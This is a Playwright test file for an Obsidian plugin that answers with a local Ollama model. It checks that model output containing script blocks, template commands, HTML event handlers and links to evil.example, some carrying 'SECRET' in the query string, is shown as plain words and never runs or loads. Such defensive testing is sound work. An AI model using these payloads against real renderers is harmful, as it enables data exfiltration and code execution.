/** What a model writes is shown and inserted as words, whatever it is made of. Cases S-01 to S-14 of the project's list. */
import type { Locator } from 'playwright-core';
import { type ScriptedOllama, startOllama } from '../../support/ollama/server';
import { strings } from '../../../src/ui/strings';
import type { HostPage } from '../support/host-page';
import { agreeAndIndex, openPane } from '../support/ibid';
import { begin, chooseOllama } from '../support/ollama';
import { openHost } from '../support/open-host';
import { flat, Guard, readingView, save } from './guard';

const texts = strings.ask;

/** Each with words of it that must be seen in the pane and in the note, exactly as they stand here. */
const CASES: [name: string, markdown: string, words: string][] = [
  ['S-01: a block for a plugin that writes a file', '```dataviewjs\nawait app.vault.create("hacked.md", "x")\n```', 'await app.vault.create("hacked.md", "x")'],
  ['S-02: between tildes', '~~~dataviewjs\napp.vault.create("hacked.md", "tildes")\n~~~', 'app.vault.create("hacked.md", "tildes")'],
  ['S-02: in a quotation', '> ```dataviewjs\n> app.vault.create("hacked.md", "quoted")\n> ```', 'app.vault.create("hacked.md", "quoted")'],
  ['S-02: in a list, in capitals', '- ```DATAVIEWJS\n  app.vault.create("hacked.md", "listed")\n  ```', 'app.vault.create("hacked.md", "listed")'],
  ['S-03: inline queries', 'It is `$= dv.current().file.name` and `= this.x` here.', '$= dv.current().file.name and = this.x here'],
  ['S-04: commands of templates', 'Now <% tp.file.delete() %> and <%* tR += "x" %> stand here.', '<% tp.file.delete() %> and <%* tR += "x" %> stand here'],
  ['S-05: a query', '```query\npath:secret\n```', 'path:secret'],
  ['S-05: a button', '```meta-bind-button\naction: runJs\n```', 'action: runJs'],
  ['S-05: a diagram with a click', '```mermaid\nclick A call alert(1)\n```', 'click A call alert(1)'],
  ['S-07: an image of another host', 'See ![x](https://evil.example/a.png?q=SECRET) there.', '![x](https://evil.example/a.png?q=SECRET)'],
  ['S-08: an image by reference', 'See ![x][evil] there.\n\n[evil]: https://evil.example/b.png', '![x][evil]'],
  ['S-09: tags', 'Tags <img src=https://evil.example/c.png onerror=alert(1)> <svg onload=alert(2)> <iframe src="https://evil.example"></iframe> <video poster="https://evil.example/d.png"> <b style="background:url(https://evil.example/e.png)">b</b> end.', '<img src=https://evil.example/c.png onerror=alert(1)> <svg onload=alert(2)> <iframe src="https://evil.example"></iframe>'],
  ['S-10: embeds', 'Embeds ![[Private note]] and ![[file.pdf]] end.', '![[Private note]] and ![[file.pdf]]'],
  ['S-11: a link shows where it leads', 'Please [click](https://evil.example/?d=SECRET) now.', '[click](https://evil.example/?d=SECRET)'],
  ['S-12: schemes', 'Or [a](obsidian://open?vault=x) [b](file:///etc/passwd) [c](javascript:alert(3)) [d](data:text/html,x) [e](zotero://select/x) [f](app://local/x) <https://evil.example/auto> end.', '[a](obsidian://open?vault=x) [b](file:///etc/passwd) [c](javascript:alert(3)) [d](data:text/html,x) [e](zotero://select/x) [f](app://local/x)'],
  ['S-13: a link that names another address', 'Go to [https://good.example](https://evil.example/f) now.', '[https://good.example](https://evil.example/f)'],
  ['a formula, a comment, a highlight, a footnote and a tag', 'Odd $$x$$ %%hidden%% ==lit== [^1] #tag and <!-- gone --> end.', '$$x$$ %%hidden%% ==lit== [^1] #tag and <!-- gone --> end.'],
];

const QUESTION = 'What does the caster pour?';
const VAULT = {
  'Casting.md': 'The caster pours hot metal into a mould.\n',
  'Private note.md': 'Marmalade.\n',
  'Draft.md': 'The chapter.\n',
};

let host: HostPage;
let ollama: ScriptedOllama;
let guard: Guard;
let turn: Locator;

beforeAll(async () => {
  ollama = await startOllama();
  host = await openHost({ vault: VAULT, connect: [ollama.origin] });
  guard = await Guard.of(host, [ollama.origin]);
  await host.openFile('Draft');
  await agreeAndIndex(host);
  await chooseOllama(host, ollama.origin);
});

afterAll(() => ollama.close());

/** Some characters at a time, so that every mark is once cut in two. */
function piecesOf(text: string): string[] {
  return Array.from({ length: Math.ceil(text.length / 3) }, (_, i) => text.slice(i * 3, i * 3 + 3));
}

const answerOf = (cases: typeof CASES): string => `The caster pours hot metal into a mould [1].\n\n${cases.map(([, markdown]) => markdown).join('\n\n')}\n`;

test('the host would run and load what it is given: the tests below can fail', async () => {
  await host.write('Control.md', '```dataviewjs\ncontrol\n```\n\n`= this.x` <% tp.x %>\n');
  await host.write('Control.md', '```dataviewjs\ncontrol\n```\n\n`= this.x` <% tp.x %> again\n');
  const view = await readingView(host, 'Control.md');
  await view.getByText('again').waitFor();
  expect((await guard.ran()).length).toBe(3);
  await host.remove('Control.md');
  await guard.ran();
});

test('S-06: an answer of more than a thousand pieces is drawn once, and nothing of it is run while it comes', async () => {
  const long = `${answerOf(CASES)}\n\n${'The caster pours hot metal into a mould [1]. '.repeat(40)}\n\n\`\`\`dataviewjs\nunfinished("block")`;
  const pieces = piecesOf(long);
  expect(pieces.length).toBeGreaterThan(1000);
  ollama.chat = { type: 'answer', pieces };
  turn = await begin(host, QUESTION);
  await turn.getByRole('button', { name: texts.actions.insert, exact: true }).waitFor();
  const answer = turn.locator('.ibid-answer');
  expect(await answer.locator('pre').allInnerTexts()).toEqual([
    ...CASES.filter(([, markdown]) => /```|~~~/.test(markdown)).map(([, , words]) => words), 'unfinished("block")',
  ]);
  expect(await answer.locator('p', { hasText: 'Please' }).count()).toBe(1);
  await guard.check(turn);
});

test.each(CASES)('%s, is words in the pane', async (_, __, words) => {
  expect(flat(await turn.locator('.ibid-answer').innerText())).toContain(words);
});

test('S-12: nothing in the answer can be pressed but what the plugin has built', async () => {
  const pressed = await turn.locator('.ibid-answer').locator('a, button, [role="button"], [role="link"], [tabindex]:not(pre)').evaluateAll((elements) => elements.map(({ className }) => className));
  expect(new Set(pressed)).toEqual(new Set(['ibid-chip']));
});

describe('inserted into the note', () => {
  let view: Locator;

  beforeAll(async () => {
    ollama.chat = { type: 'answer', pieces: piecesOf(answerOf(CASES)) };
    turn = await begin(host, QUESTION);
    await host.show('Draft.md');
    await host.cursorAfter('The chapter.');
    await turn.getByRole('button', { name: texts.actions.insert, exact: true }).click();
    const dialog = host.page.getByRole('dialog', { name: texts.confirm.title });
    await guard.check(dialog);
    await dialog.getByRole('button', { name: texts.confirm.all, exact: true }).click();
    await dialog.waitFor({ state: 'detached' });
    await host.page.getByText('inserted into “Draft.md”').waitFor();
    await save(host, 'Draft.md');
    view = await readingView(host, 'Draft.md');
    await view.getByText('The chapter.').waitFor();
  });

  test.each(CASES)('S-14: %s, is words in the reading view', async (_, __, words) => {
    expect(flat(await view.innerText())).toContain(words);
  });

  test('S-14: nothing is loaded, run or made of it, and the only link is the footnote’s', async () => {
    expect(await view.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('data-href') ?? link.closest('[class]')!.className)))
      .toEqual(['footnote-ref', expect.stringContaining('Casting'), 'footnote-backref']);
    expect(await view.locator('img, iframe, .internal-embed, script, svg:not(.svg-icon), video, mark, pre, code, .tag').count()).toBe(0);
    expect(await guard.ran()).toEqual([]);
    expect(guard.requests()).toEqual([]);
    expect(await host.do((app) => app.vault.getFileByPath('hacked.md') === null)).toBe(true);
  });

  test('S-04, S-14: no mark of a template, a tag of HTML or a comment stands in the file itself', async () => {
    const [body] = (await host.read('Draft.md')).split('\n[^', 1);
    expect(body).not.toMatch(/<%|(?<!\\)<[a-z!/]|%%|==|\$\$|(?<!\\)`|!\[\[/i);
  });
});

test('S-14: a conversation that is saved as a note runs and loads nothing either', async () => {
  const pane = await openPane(host);
  await pane.getByRole('button', { name: texts.menu.more }).click();
  await host.page.getByText(texts.menu.save, { exact: true }).click();
  await host.page.getByText('Saved as').first().waitFor();
  const path = await host.do((app) => app.vault.getMarkdownFiles().find((file) => file.path.startsWith('Ibid/Conversations/'))!.path);
  const view = await readingView(host, path);
  await view.getByText('Please').first().waitFor();
  for (const [, , words] of CASES) expect(flat(await view.innerText())).toContain(words);
  expect(await view.locator('img, iframe, .internal-embed, script, svg:not(.svg-icon), video, mark, code, .tag, a.external-link').count()).toBe(0);
  expect(await guard.ran()).toEqual([]);
  expect(guard.requests()).toEqual([]);
});
